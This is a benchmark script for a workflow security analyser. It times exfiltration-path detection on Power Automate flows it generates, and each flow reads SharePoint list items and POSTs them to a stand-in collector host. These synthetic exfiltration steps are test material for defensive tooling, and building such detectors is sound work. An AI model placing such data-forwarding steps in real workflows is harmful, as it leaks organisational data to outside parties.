// The data-flow analysis on its own: the largest corpus flow, and generated flows of growing
// size (up to 3,000 actions and beyond), to show the time grows linearly. Prints numbers only.
// Bundles the engine modules it calls from core/ with esbuild into a scratch file first, so it
// needs neither dist/ nor the compiled tests (out/).
import * as esbuild from 'esbuild';
import { createRequire } from 'node:module';
import { existsSync, mkdtempSync, readdirSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { fileURLToPath } from 'node:url';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const require = createRequire(import.meta.url);

async function engine() {
  const dir = mkdtempSync(path.join(tmpdir(), 'flowguard-bench-analysis-'));
  try {
    const from = (file, names) => `export { ${names} } from ${JSON.stringify(`./${file}`)};`;
    const outfile = path.join(dir, 'engine.cjs');
    await esbuild.build({
      stdin: {
        contents: [
          from('core/artifacts/decode', 'decodeText'),
          from('core/artifacts/json', 'parseJson'),
          from('core/model/flow', 'buildFlow, classifyFlowDocument'),
          from('core/analysis/exfiltration', 'exfiltrationPaths'),
          from('core/expressions/index', 'collectExpressions'),
        ].join('\n'),
        resolveDir: root,
        loader: 'ts',
      },
      bundle: true,
      platform: 'node',
      target: 'node20',
      format: 'cjs',
      // as scripts/build.mjs: jsonc-parser's ESM build bundles cleanly, its UMD main does not
      mainFields: ['module', 'main'],
      outfile,
      logLevel: 'warning',
    });
    return require(outfile);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}
const { decodeText, parseJson, buildFlow, classifyFlowDocument, exfiltrationPaths, collectExpressions } = await engine();

function load(file, bytes) {
  const doc = parseJson(decodeText(file, bytes));
  return buildFlow(doc, classifyFlowDocument(doc));
}

/** Time of model building, expression parsing and the exfiltration analysis, best of 5. */
function measure(file, bytes) {
  let best = Infinity;
  let paths = 0;
  let actions = 0;
  for (let i = 0; i < 5; i++) {
    const start = process.hrtime.bigint();
    const flow = load(file, bytes);
    collectExpressions(flow);
    paths = exfiltrationPaths(flow, { policies: [], trustedDomains: [] }).length;
    best = Math.min(best, Number(process.hrtime.bigint() - start) / 1e6);
    actions = flow.steps.length;
  }
  return { ms: best, paths, actions };
}

const API = (c) => `/providers/Microsoft.PowerApps/apis/${c}`;
function op(connector, operationId, parameters, runAfter) {
  return { runAfter, type: 'OpenApiConnection', inputs: { host: { connectionName: connector, operationId, apiId: API(connector) }, parameters } };
}

/** A flow of `n` actions in blocks of ten: a read, reshaping, a variable, a loop, a send. */
function generated(n) {
  const actions = {};
  let previous;
  const after = () => (previous ? { [previous]: ['Succeeded'] } : {});
  actions.Initialize_buffer = { runAfter: {}, type: 'InitializeVariable', inputs: { variables: [{ name: 'buffer', type: 'string', value: '' }] } };
  previous = 'Initialize_buffer';
  for (let block = 0; actions && Object.keys(actions).length < n; block++) {
    const b = (name) => `${name}_${block}`;
    actions[b('Get_items')] = op('shared_sharepointonline', 'GetItems', { dataset: 'https://contoso.sharepoint.com/sites/x', table: `List${block}` }, after());
    previous = b('Get_items');
    actions[b('Select')] = { runAfter: after(), type: 'Select', inputs: { from: `@body('${b('Get_items')}')?['value']`, select: "@item()?['Title']" } };
    previous = b('Select');
    actions[b('Compose')] = { runAfter: after(), type: 'Compose', inputs: `@join(body('${b('Select')}'), ',')` };
    previous = b('Compose');
    actions[b('Set_buffer')] = { runAfter: after(), type: 'SetVariable', inputs: { name: 'buffer', value: `@{outputs('${b('Compose')}')}` } };
    previous = b('Set_buffer');
    actions[b('Loop')] = {
      runAfter: after(),
      type: 'Foreach',
      foreach: `@body('${b('Get_items')}')?['value']`,
      actions: {
        [b('Post_item')]: { runAfter: {}, type: 'Http', inputs: { method: 'POST', uri: 'https://collector.example.net/items', body: `@items('${b('Loop')}')` } },
        [b('Log')]: { runAfter: { [b('Post_item')]: ['Succeeded'] }, type: 'Compose', inputs: `@iterationIndexes('${b('Loop')}')` },
      },
    };
    previous = b('Loop');
    actions[b('Send_buffer')] = { runAfter: after(), type: 'Http', inputs: { method: 'POST', uri: 'https://collector.example.net/batch', body: "@variables('buffer')" } };
    previous = b('Send_buffer');
    actions[b('Reset')] = { runAfter: after(), type: 'SetVariable', inputs: { name: 'buffer', value: 'sent' } };
    previous = b('Reset');
    actions[b('Notify')] = op('shared_office365', 'SendEmailV2', { 'emailMessage/To': 'it@contoso.com', 'emailMessage/Subject': 'done' }, after());
    previous = b('Notify');
  }
  const flow = {
    properties: {
      connectionReferences: {},
      definition: { $schema: 'https://schema.management.azure.com/providers/Microsoft.Logic/schemas/2016-06-01/workflowdefinition.json#', contentVersion: '1.0.0.0', triggers: { manual: { type: 'Request', kind: 'Button', inputs: {} } }, actions },
    },
    schemaVersion: '1.0.0.0',
  };
  return Buffer.from(JSON.stringify(flow, null, 2));
}

console.log('\ndata-flow analysis (model + expressions + exfiltration paths; best of 5)');
const corpus = path.resolve(root, '..', 'shared', 'corpus');
if (existsSync(corpus)) {
  const largest = readdirSync(corpus, { recursive: true, encoding: 'utf8' })
    .filter((f) => /Workflows\/[^/]+\.json$/.test(f))
    .map((f) => path.join(corpus, f))
    .sort((a, b) => statSync(b).size - statSync(a).size)[0];
  const bytes = require('node:fs').readFileSync(largest);
  const r = measure(largest, bytes);
  console.log(`  largest corpus flow  ${path.basename(largest)}: ${(bytes.length / 1024).toFixed(0)} KB, ${r.actions} steps, ${r.ms.toFixed(1)} ms, ${r.paths} paths`);
}
for (const n of [500, 1000, 2000, 3000, 6000]) {
  const bytes = generated(n);
  const r = measure(`generated-${n}.json`, bytes);
  console.log(`  generated ${String(n).padStart(5)} actions: ${(bytes.length / 1024).toFixed(0).padStart(5)} KB, ${r.actions} steps, ${r.ms.toFixed(1).padStart(7)} ms, ${(r.ms / r.actions * 1000).toFixed(1)} µs/step, ${r.paths} paths`);
}
